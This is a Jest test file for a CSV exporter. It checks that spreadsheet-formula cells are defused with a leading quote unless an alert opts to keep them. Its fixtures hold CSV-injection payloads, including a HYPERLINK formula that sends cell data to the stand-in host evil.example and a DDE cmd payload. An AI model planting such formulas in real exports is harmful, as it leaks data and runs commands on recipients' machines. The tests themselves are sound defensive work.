// Vector: the data itself (or a column alias) carries a spreadsheet formula —
// =HYPERLINK("http://evil/?"&A2,"x"), +cmd|' /C calc'!A0, @SUM(1+1), or one hidden after a
// tab/CR — and the CSV attachment hands it to whoever opens it in Excel. By default such text
// gets a leading ' (OWASP "CSV Injection"); an alert option keeps formulas for those who want them.
import { describe, expect, it } from '@jest/globals';
import { toCsv } from '../../src/content/csv.js';
import { createContentRenderer } from '../../src/content/render-content.js';
import type { ChartRenderer } from '../../src/capture/port.js';
import { normalizeContent } from '../../src/domain/content.js';
import { silentLogger } from '../../src/logger.js';
import { makeAlert } from '../support/fixtures.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const result = { columns: ['=alias()', 'plain', 'n'], rows: FORMULAS.map((f, i) => [f, 'ok', -i] as (string | number)[]), truncated: false };

describe('CSV cells that a spreadsheet would run', () => {
  it('go out with a leading quote, header included; numbers and plain text stay as they are', () => {
    const text = toCsv(result, { bom: false, maxRows: 100 }).bytes.toString('utf8');
    const records = text.split('\r\n');
    expect(records[0]).toBe("'=alias(),plain,n");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""open"")",ok,0`);
    expect(text).toContain("'@SUM(1+1),ok,-3");
    expect(text).toContain("'-2+3+cmd|x,ok,-2");
    expect(text).toContain(`'\t=1+1,ok,-4`);
    expect(text).toContain(`"'\r=1+1",ok,-5`);
  });

  it('are kept when the alert keeps formulas', () => {
    const text = toCsv(result, { bom: false, maxRows: 100, keepFormulas: true }).bytes.toString('utf8');
    expect(text.split('\r\n')[0]).toBe('=alias(),plain,n');
    expect(text).toContain('@SUM(1+1),ok,-3');
  });

  it('are defused in the CSV an alert sends, and alerts stored before the option get the safe default', async () => {
    expect(normalizeContent({ kind: 'csv', bom: false })).toEqual({ kind: 'csv', bom: false, keepFormulas: false });
    const charts: ChartRenderer = { render: () => Promise.reject(new Error('no chart here')) };
    const renderer = createContentRenderer({ screenshotter: null, charts, csvMaxRows: 100, logger: silentLogger() });
    const alert = makeAlert({ content: normalizeContent({ kind: 'csv', bom: false }) });
    const rendered = await renderer.render(alert, result, AbortSignal.timeout(10_000));
    const csv = rendered.attachments.find((a) => a.kind === 'csv')?.bytes.toString('utf8') ?? '';
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).not.toMatch(/(^|\r\n)@SUM/);
  });
});
